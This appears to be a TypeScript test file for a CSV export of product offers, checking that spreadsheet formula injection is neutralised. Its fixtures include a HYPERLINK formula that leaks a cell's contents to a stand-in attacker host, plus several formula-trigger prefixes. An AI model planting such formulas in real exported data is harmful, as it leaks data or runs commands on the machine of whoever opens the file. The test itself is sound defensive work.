/** Plain tables: what a spreadsheet opens, and what it must not run. */
import fc from 'fast-check';
import { parseCsv } from 'hucre/csv';
import { describe, expect, test } from 'vitest';
import { csvOf } from '../../src/files/csv.ts';
import { offerSheet } from '../../src/files/offer-sheet.ts';
import { offer } from '../support/made-up.ts';
import { listedOffers } from '../support/made-up-table.ts';
import { hasOffice, throughOffice } from '../support/office.ts';

const textOf = (bytes: Uint8Array): string => Buffer.from(bytes).toString('utf8');
const oneColumn = (cells: readonly string[]) =>
  csvOf({ name: 'x', columns: [{ header: 'a', width: 1 }], rows: cells.map((cell) => [cell]) });

describe('a plain table of offers', () => {
  test('begins with the mark of UTF-8, has no column of pictures, and plain figures', async () => {
    const bytes = csvOf(offerSheet(await listedOffers(), { language: 'en' }));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header = [], first = [], , third = []] = parseCsv(textOf(bytes));
    expect(header).not.toContain('Picture');
    const at = (row: readonly unknown[], name: string) => row[header.indexOf(name)];
    expect(at(first, 'Original title')).toBe('304不锈钢便携折叠咖啡杯350ml');
    expect(at(first, 'Tier 3 (CNY)')).toBe('9.99');
    expect(at(third, 'Original title')).toBe('\'=HYPERLINK("http://evil.example/"&A1)');
    expect(at(third, 'Supplier')).toBe("'@SUM(1+1)*cmd");
  });

  test.each(['=1+1', '+1', '-1', '@a', '\t=1', '\r=1', '\n=1', '  =1', '＝1+1', '＠a', '－1', '\u200B=1'])(
    'disarms %j',
    (cell) => {
      expect(textOf(oneColumn([cell])).split('\r\n')[1]).toMatch(/^"'/);
    },
  );

  test('gives every text back, but for the sign that disarms it, and never begins a cell with a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 8 }), (cells) => {
        const back = parseCsv(textOf(oneColumn(cells))).slice(1);
        for (const [row, cell] of cells.entries()) {
          const read = String(back[row]?.[0] ?? '');
          expect(read === cell || read === `'${cell}`).toBe(true);
          expect(read).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
        }
      }),
    );
  });

  test.skipIf(!hasOffice)('is opened by LibreOffice with nothing run', { timeout: 120_000 }, async () => {
    const bytes = csvOf(offerSheet(await listedOffers(), { language: 'en' }));
    const seen = await throughOffice(bytes, 'csv', 'fods');
    expect(seen).not.toContain('table:formula=');
    expect(seen).toContain('304不锈钢便携折叠咖啡杯350ml');
  });
});

describe('what people noted', () => {
  test('has columns of its own, and only where there is any', () => {
    const one = { offer: offer('700000000001'), picture: null };
    const headers = (table: ReturnType<typeof offerSheet>) => table.columns.map(({ header }) => header);
    expect(headers(offerSheet([one], { language: 'en' }))).not.toContain('Note');
    const noted = offerSheet([one, { ...one, note: '=1+1', tags: ['red', 'big'] }], { language: 'en' });
    const cell = (header: string) => noted.rows.map((row) => row[headers(noted).indexOf(header)]);
    expect(cell('Note')).toEqual([null, '=1+1']);
    expect(cell('Tags')).toEqual([null, 'red, big']);
    expect(new TextDecoder().decode(csvOf(noted))).not.toMatch(/[,"]=1\+1/);
  });
});
